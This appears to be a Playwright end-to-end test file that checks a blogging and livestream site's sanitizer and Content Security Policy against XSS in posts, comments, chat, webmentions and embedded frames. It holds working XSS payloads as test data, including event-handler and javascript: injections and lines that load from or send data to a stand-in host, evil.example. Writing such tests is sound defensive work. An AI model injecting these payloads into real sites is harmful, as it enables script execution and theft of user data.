import { postPath } from '#features/writing/posts/post-addresses.contract.ts'
import { once } from 'node:events'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { type BrowserContext, expect, type Locator, type Page } from '@playwright/test'
import { type Db, many, one, sql } from '#kernel/db.ts'
import { escapeHtml } from '#kernel/html.ts'
import { readEntry } from '#features/conversation/webmentions/source-entry.ts'
import { saveVerified, saveMention } from '#features/conversation/webmentions/webmentions.store.ts'
import { type Account, callAs, signUp, test } from './setup/trust.ts'
import { xssPayloads, xssPlaces } from './xss-corpus.ts'

test.describe.configure({ mode: 'parallel' })

const titleLength = 200
const nameLength = 100

/** Combines payloads into groups that fit into a string of that length. */
function packed(payloads: string[], length: number): string[][] {
  const packs: string[][] = [[]]
  for (const payload of payloads) {
    const last = packs.at(-1)!
    const used = [...last, payload].join(' ').length
    if (used <= length) last.push(payload)
    else packs.push([payload])
  }
  return packs.filter((pack) => pack.length > 0)
}

/** Puts each payload at a third of the positions in a Markdown document; `markdown.test.ts` covers all combinations. A
 *  mark before each document shows whether the previous document swallowed it. */
const inPlaces = (payloads: string[]) =>
  payloads.flatMap((payload, index) => placesFor(payload, index).map((text) => `mark\n\n${text}\n\n`)).join('')

const placesFor = (payload: string, index: number) =>
  xssPlaces(payload).filter((_text, place) => (place + index) % 3 === 0)

async function signedInPage(context: BrowserContext, { session }: Account): Promise<Page> {
  const page = await context.newPage()
  await page.goto('/healthz')
  await page.evaluate((text) => localStorage.setItem('supabase_auth_token', text), session)
  return page
}

/** Opens the page and waits until the browser has fetched the post again as the member. */
async function open(page: Page, path: string): Promise<void> {
  const read = page.waitForResponse((response) => /\/api\/posts/.test(response.url()))
  await page.goto(path)
  await read
  await settled(page)
}

/** Waits until inserted content, such as broken pictures, frames, and refreshes, has had time to run. */
const settled = (page: Page) =>
  page.evaluate(
    () => new Promise<void>((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 40)))),
  )

/** Inserts the whole text as if pasting it; typing would take seconds. */
const putInto = (field: Locator, text: string) =>
  field.evaluate((element: HTMLTextAreaElement, text) => {
    Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value')!.set!.call(element, text)
    element.dispatchEvent(new Event('input', { bubbles: true }))
  }, text)

/** Returns the elements and attributes on the page that our own code would not create. */
const strangersIn = (page: Page) =>
  page.evaluate(() => {
    const found: string[] = []
    for (const element of document.querySelectorAll('*')) {
      for (const { name } of element.attributes) if (name.startsWith('on')) found.push(`${element.tagName} ${name}`)
      if (element instanceof HTMLAnchorElement && element.href && !/^(https?|mailto):/.test(element.href))
        found.push(`a ${element.href}`)
      if (
        element instanceof HTMLIFrameElement &&
        !/^https:\/\/(www\.youtube-nocookie|player\.vimeo)\.com\//.test(element.src)
      )
        found.push(`iframe ${element.src}`)
    }
    const never = ':is(script, style, link, meta, base, object, embed, template, math)'
    const forbidden = `#root ${never}, .prose :is(form, button, noscript, svg, textarea, select)`
    const copyButton = '<button class="code-copy-button" type="button" aria-label="Copy code">Copy</button>'
    for (const { outerHTML } of document.querySelectorAll(forbidden))
      if (outerHTML !== copyButton) found.push(outerHTML.slice(0, 100))
    return found
  })

test('shows hostile posts, titles, names, profiles, and previews as plain text, even without the CSP', async ({
  context,
  request,
  trap,
  site,
}) => {
  const payloads = xssPayloads().map((payload) => payload.replaceAll('\0', ''))
  const oneLine = payloads.map((payload) => payload.replaceAll(/\s+/g, ' ').trim())
  const names = packed(
    oneLine.filter((payload) => payload.length <= nameLength && payload.length > 1),
    nameLength,
  )
  const owner = await signUp(request, 'first-author', names[0]!.join(' '))
  await callAs(request, owner, 'POST', '/api/users', {
    bio: oneLine.join(' ').slice(0, 2000),
    title: oneLine.find((text) => text.includes('<script>'))!.slice(0, 100),
  })
  const authors = [owner]
  for (const [index, name] of names.slice(1, 40).entries())
    authors.push(await signUp(request, `author-${index}`, name.join(' ')))

  const ids: number[] = []
  const articles: string[] = []
  const texts = { all: 0, shown: 0 }
  for (const [index, pack] of packed(payloads, titleLength - 20).entries()) {
    const title = pack.join(' ').slice(0, titleLength)
    const content = inPlaces(pack)
    const author = authors[index % authors.length]!
    const body =
      index % 5 === 4 ? { title: `Title ${title}`.slice(0, titleLength), isLongForm: true, categoryId: 1 } : { title }
    const post = await callAs<{ id: number; slug: string | null; contentHtml: string }>(
      request,
      author,
      'POST',
      '/api/posts',
      {
        ...body,
        content,
      },
    )
    ids.push(post.id)
    if (index % 20 === 4) articles.push(postPath(post))
    const marks = post.contentHtml.match(/<p>mark<\/p>/g)?.length ?? 0
    texts.shown += marks
    texts.all += pack.flatMap(placesFor).length
  }
  expect(ids.length).toBeGreaterThan(80)
  expect(texts.shown / texts.all, 'most are not swallowed by another text').toBeGreaterThan(0.9)

  const page = await signedInPage(context, owner)
  const strangers: string[] = []
  // The feed shows posts in full, but only the beginning of articles.
  for (const path of articles) {
    await open(page, path)
    strangers.push(...(await strangersIn(page)))
    expect(page.url()).toBe(site.url + path)
  }
  for (let number = 1; number <= Math.ceil(ids.length / 10); number++) {
    await open(page, `/?page=${number}`)
    strangers.push(...(await strangersIn(page)))
    await expect(page.getByRole('article')).not.toHaveCount(0)
  }
  expect({ ...trap, strangers }).toEqual({ ran: [], stopped: [], left: [], strangers: [] })

  await page.goto('/?page=999')
  const text = page.getByRole('textbox', { name: 'Post content' })
  for (const pack of packed(payloads, 5000)) {
    await page.getByRole('tab', { name: 'Write' }).click()
    await putInto(text, inPlaces(pack))
    const preview = page.waitForResponse((response) => response.url().endsWith('/api/posts/preview'))
    await page.getByRole('tab', { name: 'Preview' }).click()
    expect((await preview).status()).toBe(200)
    await settled(page)
    strangers.push(...(await strangersIn(page)))
  }
  expect({ ...trap, strangers }).toEqual({ ran: [], stopped: [], left: [], strangers: [] })
})

test('shows hostile comments, names, and websites as plain text, below the post and in the moderation queue', async ({
  context,
  request,
  trap,
}) => {
  const payloads = xssPayloads().map((payload) => payload.replaceAll('\0', ''))
  const author = await signUp(request, 'commented', 'Commented On')
  const { id } = await callAs<{ id: number }>(request, author, 'POST', '/api/posts', { content: 'Say what you like' })
  const path = `/api/posts/${id}/comments`
  for (const pack of packed(payloads, 250))
    await callAs(request, author, 'POST', path, { content: inPlaces(pack).slice(0, 5000) })
  const names = packed(
    payloads.filter((payload) => payload.length <= nameLength),
    nameLength,
  )
  for (const name of names) {
    const [authorName, content] = [name.join(' '), name.join('\n')]
    const data = { authorName, content, authorUrl: `https://vera.example/?${encodeURIComponent(authorName)}` }
    const answer = await request.post(path, { data })
    // A name that consists of invisible characters counts as missing.
    expect([201, 400]).toContain(answer.status())
  }
  const page = await signedInPage(context, author)
  const strangers: string[] = []
  const { totalPages } = await callAs<{ totalPages: number }>(request, author, 'GET', `${path}?limit=50`)
  expect(totalPages).toBeGreaterThan(1)
  for (let number = 1; number <= totalPages; number++) {
    await page.goto(number === 1 ? `/post/${id}` : `/post/${id}?comments=${number}`)
    await expect(page.locator('.comment').first()).toBeVisible()
    await settled(page)
    strangers.push(...(await strangersIn(page)))
  }
  for (const status of ['pending', 'spam']) {
    for (let number = 1; number <= 4; number++) {
      await page.goto(`/admin/comments?status=${status}&page=${number}`)
      await expect(page.locator('.queue-item, .empty').first()).toBeVisible()
      await settled(page)
      strangers.push(...(await strangersIn(page)))
      expect(await page.locator('.queue-item-text > *').count()).toBe(0)
    }
  }
  expect({ ...trap, strangers }).toEqual({ ran: [], stopped: [], left: [], strangers: [] })
})

/** The number of messages initially shown on a livestream's page. */
const chatLength = 100

test('shows hostile chat names and messages as plain text, when received, on page load, and to moderators', async ({
  context,
  request,
  trap,
}) => {
  const payloads = xssPayloads().map((payload) => payload.replaceAll('\0', '').replaceAll(/\s+/g, ' ').trim())
  const owner = await signUp(request, 'broadcasts', 'Broadcaster <img src=x onerror=alert(1)>')
  const said: { username?: string; message: string; by?: Account }[] = packed(payloads, 900).flatMap((pack) => [
    { message: pack.join(' ') },
    { message: pack.join(' '), by: owner },
  ])
  const names = packed(
    payloads.filter((payload) => payload.length <= 50),
    50,
  )
  for (const name of names) said.push({ username: name.join(' '), message: name[0]! })
  const moderator = await signedInPage(context, owner)
  const visitor = await context.newPage()
  const strangers: string[] = []
  while (said.length > 0) {
    const fields = { title: payloads[said.length]!.slice(0, 99), description: payloads.slice(said.length).join(' ') }
    const input = { ...fields, description: fields.description.slice(0, 499) }
    const { id } = await callAs<{ id: number }>(request, owner, 'POST', '/api/livestreams', input)
    await visitor.goto(`/livestream/${id}`)
    const answers = await Promise.all(
      said.splice(0, chatLength).map(({ by, ...data }) => {
        const headers = by ? { authorization: `Bearer ${by.token}` } : {}
        return request.post(`/api/livestreams/${id}/chat`, { data, headers })
      }),
    )
    // Invisible names count as missing, and some names belong to members.
    for (const answer of answers) expect([201, 400, 409]).toContain(answer.status())
    const shown = answers.filter((answer) => answer.status() === 201).length
    expect(shown).toBeGreaterThan(0)
    await moderator.goto(`/livestream/${id}`)
    await expect(moderator.getByRole('button', { name: 'Moderate the chat' })).toBeVisible()
    for (const page of [visitor, moderator]) {
      await expect(page.locator('.chat-line')).toHaveCount(shown)
      await settled(page)
      strangers.push(...(await strangersIn(page)))
      expect(await page.locator('.chat-line-text > :not(a)').count()).toBe(0)
      expect(await page.locator('.chat-line:not([data-broadcaster]) a').count()).toBe(0)
    }
  }
  await moderator
    .getByRole('button', { name: /^Moderate the message by / })
    .last()
    .click()
  await moderator.getByRole('menuitem', { name: 'Ban' }).last().click()
  await moderator.getByRole('button', { name: 'Ban', exact: true }).click()
  await moderator.getByRole('button', { name: 'Moderate the chat' }).click()
  await expect(moderator.getByRole('button', { name: 'Unban' })).toBeVisible()
  await settled(moderator)
  strangers.push(...(await strangersIn(moderator)))
  expect({ ...trap, strangers }).toEqual({ ran: [], stopped: [], left: [], strangers: [] })
})

/** Returns another site's page that contains the payloads, as HTML and as text, in all fields of a mention. */
function hostilePage(kind: string, target: string, pack: string[]): string {
  const [payload, all] = [pack[0]!, pack.join(' ')]
  const within = escapeHtml(payload)
  return `<div class="h-entry"><a class="u-${kind}" href="${target}"></a>
    <div class="p-author h-card"><a class="u-url" href="${within}"></a><a class="u-url" href="https://a.example/?${within}"></a>
      <img class="u-photo" src="${within}" alt="${within}"><span class="p-name">${escapeHtml(all)}</span></div>
    <a class="u-url" href="${within}"></a><span class="p-name">${escapeHtml(pack.at(-1)!)}</span>
    <div class="e-content">mark ${all} <p title="${within}">${escapeHtml(all)}</p></div></div>`
}

test('shows hostile author names, URLs, pictures, and text from other sites as plain text, on the post and in the queue', async ({
  context,
  request,
  trap,
  db,
}) => {
  const payloads = xssPayloads().map((payload) => payload.replaceAll('\0', ''))
  const author = await signUp(request, 'mentioned', 'Mentioned Elsewhere')
  const { id } = await callAs<{ id: number }>(request, author, 'POST', '/api/posts', { content: 'Say what you like' })
  const { id: ownerId } = await callAs<{ id: number }>(request, author, 'GET', '/api/users/me')
  const target = `https://devstead.example/post/${id}`
  const kinds = ['in-reply-to', 'like-of', 'bookmark-of', 'repost-of', 'mention']
  const packs = packed(payloads, 400)
  let read = 0
  for (const [index, pack] of packs.entries()) {
    const source = `https://a.example/${index}`
    const address = { source, finalUrl: source, target }
    const entry = readEntry(hostilePage(kinds[index % kinds.length]!, target, pack), address)
    if (!entry) continue
    read += 1
    const addresses = { sourceUrl: source, sourceHost: 'a.example', targetUrl: target, targetPath: `/post/${id}` }
    const row = await saveMention(db, { ...addresses, ownerId, postId: id }, Date.now())
    // Pictures are served as our own copies; this row contains the third-party URL itself.
    const shown = { entry, photo: entry.author.photo || null, checkAt: null }
    await saveVerified(db, row!.id, { ...shown, status: index % 3 === 0 ? 'pending' : 'approved' }, Date.now())
  }
  expect(read).toBeGreaterThan(packs.length * 0.8)

  const page = await signedInPage(context, author)
  const strangers: string[] = []
  const list = `/api/posts/${id}/webmentions`
  const { totalPages } = await callAs<{ totalPages: number }>(request, author, 'GET', list)
  for (let number = 1; number <= totalPages; number++) {
    await page.goto(number === 1 ? `/post/${id}` : `/post/${id}?mentions=${number}`)
    await expect(page.locator('.webmention').first()).toBeVisible()
    await settled(page)
    strangers.push(...(await strangersIn(page)))
  }
  for (let number = 1; number <= 4; number++) {
    await page.goto(`/admin/comments?page=${number}`)
    await expect(page.locator('.queue-item, .empty').first()).toBeVisible()
    await settled(page)
    strangers.push(...(await strangersIn(page)))
    expect(await page.locator('.queue-item-text > *').count()).toBe(0)
  }
  expect({ ...trap, strangers }).toEqual({ ran: [], stopped: [], left: [], strangers: [] })
})

/** Payloads that navigate away without a script, which only the sanitizer can prevent. */
const refreshes = /http-equiv\s*=\s*["'`]?refresh/i

const ours = [
  '<script src=/api/site></script>',
  '<script src=/api/posts?x=alert(1)></script>',
  '<script src=/storage/v1/object/public/post-images/1/a.png></script>',
  '<script src=/assets/../api/site></script>',
  '<script src="/assets/..%2f..%2fapi%2fsite"></script>',
  '<base href=//evil.example/><script src=x.js></script>',
  '<script>pwned(1)</script>',
  '<img src=x onerror=pwned(1)>',
  '<svg onload=pwned(1)>',
  '<a href=javascript:pwned(1)>click</a>',
  '<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>',
  '<iframe src=javascript:parent.pwned(1)></iframe>',
  '<iframe src=https://evil.example/></iframe>',
  '<object data=https://evil.example/></object>',
  '<embed src=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<link rel=prefetch href=https://evil.example/a.css>',
  '<style>@import "https://evil.example/a.css"; body { background: url(https://evil.example/b) }</style>',
  '<p style="background: url(https://evil.example/c)">x</p>',
  '<img src="https://evil.example/?secret">',
  '<video poster=https://evil.example/v src=https://evil.example/v autoplay></video>',
  '<form action=https://evil.example/><input name=a><button id=send>send</button></form>',
  '<input autofocus onfocus=pwned(1)>',
  '<details open ontoggle=pwned(1)>',
  '<script type=module>import("https://evil.example/m.js")</script>',
  '<script type=text/javascript src=data:text/javascript,pwned(1)></script>',
]

const withoutTrustedTypes = (policy: string) =>
  policy
    .split(';')
    .filter((directive) => !/^\s*(?:require-trusted-types-for|trusted-types)\b/.test(directive))
    .join(';')

test('stops the payloads with the CSP alone, without the sanitizer', async ({ context, request, trap, db, site }) => {
  const account = await signUp(request, 'raw', 'Raw Html')
  const { id: template } = await callAs<{ id: number }>(request, account, 'POST', '/api/posts', { content: 'x' })
  const page = await signedInPage(context, account)
  const payloads = [...ours, ...xssPayloads()]
    .filter((text) => !refreshes.test(text))
    .map((text) => text.replaceAll('\0', ''))
  expect(payloads.length).toBeGreaterThan(700)

  // Rendered by the server. Payloads that another payload swallows are tried again in smaller groups.
  let waiting = payloads
  for (const size of [25, 8, 3, 1]) {
    const swallowed: string[] = []
    for (const group of inGroups(waiting, size)) {
      const seen = await renderedByServer(page, db, template, group)
      swallowed.push(...group.filter((_payload, index) => !seen.has(index)))
    }
    waiting = swallowed
  }
  expect(waiting).toEqual([])

  // The payloads are inserted by one of our scripts, in a document without Trusted Types, which would reject all of the
  // payloads first.
  await page.route('/login?next=/', async (route) => {
    const response = await route.fetch()
    const policy = response.headers()['content-security-policy']!
    const headers = { ...response.headers(), 'content-security-policy': withoutTrustedTypes(policy) }
    await route.fulfill({ response, headers })
  })
  for (const group of inGroups(payloads, 100)) {
    await page.goto('/login?next=/', { waitUntil: 'domcontentloaded' })
    await page.evaluate((texts) => {
      for (const text of texts) {
        const box = document.createElement('div')
        document.body.append(box)
        box.innerHTML = `<i data-mark="0"></i>${text}`
      }
    }, group)
    await provoke(page)
  }
  expect({ ran: trap.ran, left: trap.left }).toEqual({ ran: [], left: [] })
  expect(trap.stopped.length, 'the CSP stopped many payloads').toBeGreaterThan(100)
  expect(new URL(page.url()).origin).toBe(site.url)
})

const inGroups = (texts: string[], size: number): string[][] =>
  Array.from({ length: Math.ceil(texts.length / size) }, (_, index) => texts.slice(index * size, (index + 1) * size))

/** Closes the elements, attributes, and comments that a payload may leave open, so that it swallows fewer of the
 *  following payloads. */
const closing = `\n"'>--></title></style></textarea></script></noscript></xmp></iframe></noembed></noframes></template></select></svg></math>\n`

/** Shows the strings as the HTML of a new post. @returns the indexes of strings that the previous string did not
 *  swallow */
async function renderedByServer(page: Page, db: Db, template: number, group: string[]): Promise<Set<number>> {
  const html = group.map((payload, index) => `<i data-mark="${index}"></i>${payload}`).join(closing)
  const row = await one<{ id: number }>(db)`
    insert into posts (member_id, content, content_html, excerpt, reading_minutes, category_id, is_long_form)
    select member_id, content, ${html}, excerpt, reading_minutes, category_id, is_long_form from posts
    where id = ${template} returning id`
  await page.goto(`/post/${row!.id}`, { waitUntil: 'domcontentloaded' })
  // If a payload swallows the data embedded in the page, the browser fetches the post.
  if (group.length === 1) await page.waitForSelector('i[data-mark]', { state: 'attached' })
  return provoke(page)
}

/** Clicks elements and dispatches the events that their handlers handle. @returns the marks on the page */
async function provoke(page: Page): Promise<Set<number>> {
  await settled(page)
  const marks = await page.evaluate(async () => {
    for (const element of document.querySelectorAll<HTMLElement>('[data-mark] ~ *, [data-mark] ~ * *')) {
      for (const { name } of element.attributes) {
        if (name.startsWith('on')) element.dispatchEvent(new Event(name.slice(2).toLowerCase()))
      }
      if (element instanceof HTMLAnchorElement && /^(javascript|data|vbscript):/i.test(element.href)) element.click()
      if (element.id === 'send') element.click()
    }
    await new Promise((done) => setTimeout(done, 30))
    return Array.from(document.querySelectorAll<HTMLElement>('i[data-mark]'), ({ dataset }) => Number(dataset['mark']))
  })
  return new Set(marks)
}

test('keeps titles, names, and text inside the page’s embedded data, and reads them back unchanged', async ({
  context,
  request,
  trap,
}) => {
  const evil = '</script><script>pwned(1)</script><!--<script>\u2028\u2029]]>&lt;"\'`${1}\\'
  const account = await signUp(request, 'breaker', evil)
  const { id } = await callAs<{ id: number }>(request, account, 'POST', '/api/posts', { content: evil, title: evil })
  const plain = await callAs<{ id: number }>(request, account, 'POST', '/api/posts', { content: 'x', title: 'x' })
  const page = await context.newPage()
  const scriptsOf = async (postId: number) => {
    await page.goto(`/post/${postId}`)
    return page.evaluate(() => document.querySelectorAll('script').length)
  }
  expect(await scriptsOf(id)).toBe(await scriptsOf(plain.id))
  await page.goto(`/post/${id}`)
  const state = await page.evaluate(() => document.getElementById('state')!.textContent)
  const post = (JSON.parse(state) as [unknown[], { title?: string; user?: { displayName: string } }][])
    .map(([, data]) => data)
    .find((data) => data?.user)!
  const oneLine = evil.replace(/[\u2028\u2029]+/, ' ')
  expect([post.title, post.user!.displayName]).toEqual([oneLine, oneLine])
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(oneLine, { useInnerText: false })
  expect(trap).toEqual({ ran: [], stopped: [], left: [] })
})

test('keeps a code block’s language inside its attribute', async ({ context, request, trap }) => {
  const account = await signUp(request, 'coder', 'Coder')
  const languages = [
    '"><img/src=x/onerror=pwned(1)>',
    "'onmouseover='pwned(1)",
    'js" onclick="pwned(1)',
    '`',
    '../../x',
    '&quot;>',
  ]
  const content = languages.map((name) => `~~~${name}\n<script>pwned(1)</script>\n~~~\n`).join('\n')
  const { id } = await callAs<{ id: number }>(request, account, 'POST', '/api/posts', { content })
  const page = await context.newPage()
  await page.goto(`/post/${id}`)
  await expect(page.locator('.prose pre')).toHaveCount(languages.length)
  expect(await strangersIn(page)).toEqual([])
  expect(await page.locator('.prose pre').allTextContents()).toEqual(languages.map(() => '<script>pwned(1)</script>\n'))
  expect(trap).toEqual({ ran: [], stopped: [], left: [] })
})

const frames = [
  'https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ',
  'https://evil.example/https://www.youtube.com/embed/dQw4w9WgXcQ',
  'https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ',
  'https://www.youtube.com\\@evil.example/embed/dQw4w9WgXcQ',
  'https://www.youtube.com:443@evil.example/embed/dQw4w9WgXcQ',
  '//evil.example/embed/dQw4w9WgXcQ',
  'https://www.youtube.com/../evil',
  'https://www.youtube.com/redirect?q=https://evil.example',
  'https://www.youtube.com/embed/../redirect?q=//evil.example',
  'http://127.0.0.1/embed/dQw4w9WgXcQ',
  'data:text/html,<script>parent.pwned(1)</script>',
  'javascript:parent.pwned(1)',
  'https://evilyoutube.com/embed/dQw4w9WgXcQ',
  'https://player.vimeo.com.evil.example/video/1',
  'https://vimeo.com/evil',
]

test('keeps only YouTube and Vimeo frames, sandboxed, and blocks all others through the CSP', async ({
  context,
  request,
  trap,
  db,
}) => {
  const account = await signUp(request, 'framer', 'Framer')
  const good = '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>'
  const content = [
    good,
    ...frames.map((src) => `<iframe src="${src}"></iframe>`),
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>parent.pwned(1)</script>"></iframe>',
    '<iframe><iframe src="https://evil.example"></iframe></iframe>',
    '<iframe/src=https://evil.example>',
  ].join('\n\n')
  const { id } = await callAs<{ id: number }>(request, account, 'POST', '/api/posts', { content })
  const page = await context.newPage()
  await page.goto(`/post/${id}`)
  const found = await page
    .locator('iframe')
    .evaluateAll((all) =>
      all.map((one) => [one.getAttribute('src'), one.hasAttribute('srcdoc'), one.getAttribute('sandbox')]),
    )
  expect(found.length).toBeGreaterThan(0)
  expect(found.length).toBeLessThan(4)
  for (const [src, hasSource, sandbox] of found) {
    expect(src).toMatch(/^https:\/\/www\.youtube-nocookie\.com\/embed\/[\w-]+$/)
    expect(hasSource).toBe(false)
    expect(sandbox).toContain('allow-scripts')
    expect(sandbox).not.toContain('allow-top-navigation')
  }
  await page.locator('iframe').first().scrollIntoViewIfNeeded()
  await expect(page.frameLocator('iframe').first().getByText('A player')).toBeVisible()
  expect(trap).toEqual({ ran: [], stopped: [], left: [] })

  await sql`update posts set content_html = ${frames.map((src) => `<iframe src="${src}"></iframe>`).join('')} where id = ${id}`.execute(
    db,
  )
  await expect
    .poll(async () => {
      await page.goto(`/post/${id}`)
      return page.locator('.prose iframe').count()
    })
    .toBeGreaterThan(10)
  await settled(page)
  expect({ ran: trap.ran, left: trap.left.filter((one) => !one.includes('youtube.com/')) }).toEqual({
    ran: [],
    left: [],
  })
  expect(trap.stopped.some((what) => what.includes('frame-src'))).toBe(true)
  const members = await many<{ id: number }>(db)`select id from members where username = 'framer'`
  expect(members).toHaveLength(1)
})

test('does not let other sites frame our pages', async ({ context, site }) => {
  const framed = ['/', '/login', '/nowhere'].map((path) => site.url + path)
  // The other site is also on this machine, because browsers prevent public sites from framing sites in a private network.
  const other = http.createServer((request, response) => {
    response.setHeader('content-type', 'text/html')
    const frames = [...framed, '/plain'].map((src) => `<iframe src="${src}"></iframe>`)
    response.end(request.url === '/' ? frames.join('') : 'plain')
  })
  await once(other.listen(0, '127.0.0.1'), 'listening')
  const address = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`
  const page = await context.newPage()
  await page.goto(address)
  const refused = 'chrome-error://chromewebdata/'
  await expect
    .poll(() =>
      page
        .frames()
        .slice(1)
        .map((frame) => frame.url()),
    )
    .toEqual([refused, refused, refused, `${address}plain`])
  other.closeAllConnections()
  other.close()
})
